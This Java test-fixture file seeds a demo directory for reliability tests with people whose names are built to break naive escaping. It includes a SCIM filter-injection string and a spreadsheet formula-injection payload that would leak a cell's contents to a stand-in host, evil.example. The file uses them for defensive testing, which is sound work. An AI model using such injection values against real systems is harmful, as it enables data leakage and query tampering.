package io.signoff.reliability;

import io.signoff.model.ProviderKind;
import io.signoff.simulator.Seed;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;

/** Demo directories with extra people in all four providers, for the reliability tests and benchmarks. */
final class TestSeeds {
    /**
     * People whose names and addresses are hostile to naive code: quotes that end OData or SCIM literals, backslashes,
     * non-ASCII letters, spreadsheet formula starts (=, +, -, @). Given name, family name, email.
     */
    static final List<List<String>> PEOPLE = List.of(
            List.of("Siobhán", "O'Brien", "o'brien@contoso.com"),
            List.of("\"x\" or userName pr", "Quoted", "\"x\" or userName pr\"@contoso.com"),
            List.of("Zoë", "Ångström-Łukasiewicz", "zoë@contoso.com"),
            List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "Formula", "=HYPERLINK(\"http://evil.example\")@contoso.com"),
            List.of("+1", "Plus", "+1@contoso.com"),
            List.of("@SUM(1)", "Back\\slash", "back\\slash@contoso.com"),
            List.of("-2+3", "Minus;Semi,Comma", "minus-2+3@contoso.com"));

    private TestSeeds() { }

    /** The demo directory plus {@link #PEOPLE}, each in all four providers. */
    static Seed hostile(long seed) {
        return withExtraPeople(seed, PEOPLE, 90001);
    }

    /**
     * The demo directory plus {@code count} generated people ("bench.0001@contoso.com" …) who are in all four providers,
     * each with one device (so one Slack session and one Cloudflare session): for bulk runs across every provider.
     */
    static Seed withPeopleEverywhere(long seed, int count) {
        List<List<String>> people = new ArrayList<>();
        for (int i = 1; i <= count; i++) {
            String n = String.format("%04d", i);
            people.add(List.of("Bench", "Person" + n, "bench." + n + "@contoso.com"));
        }
        return withExtraPeople(seed, people, 80001);
    }

    /** Each extra person (given, family, email) in Contoso's tenant, the first Slack workspace, Cloudflare and Lucid. */
    private static Seed withExtraPeople(long seed, List<List<String>> extra, int firstKey) {
        Seed demo = Seed.demo(seed, Instant.now());
        Seed.Person jane = demo.people().stream().filter(p -> p.email().equals("jane.doe@contoso.com")).findFirst().orElseThrow();
        String contoso = demo.tenants().stream().filter(t -> t.mailDomain().equals("contoso.com"))
                .map(Seed.Tenant::defaultDomainName).findFirst().orElseThrow();
        String workspace = demo.slack().workspaces().get(0).id();
        List<Seed.Person> people = new ArrayList<>(demo.people());
        for (int i = 0; i < extra.size(); i++) {
            List<String> p = extra.get(i);
            people.add(new Seed.Person(String.format("p%05d", firstKey + i), p.get(0), p.get(1), p.get(2), List.of(),
                    "Test subject", contoso, EnumSet.allOf(ProviderKind.class), List.of(workspace), false, false, false,
                    false, false, jane.devices().subList(0, 1), demo.now()));
        }
        return new Seed(demo.tenants(), demo.slack(), demo.cloudflare(), demo.lucid(), people, demo.now());
    }

    static String email(int i) { return PEOPLE.get(i).get(2); }

    static String displayName(int i) { return PEOPLE.get(i).get(0) + " " + PEOPLE.get(i).get(1); }
}
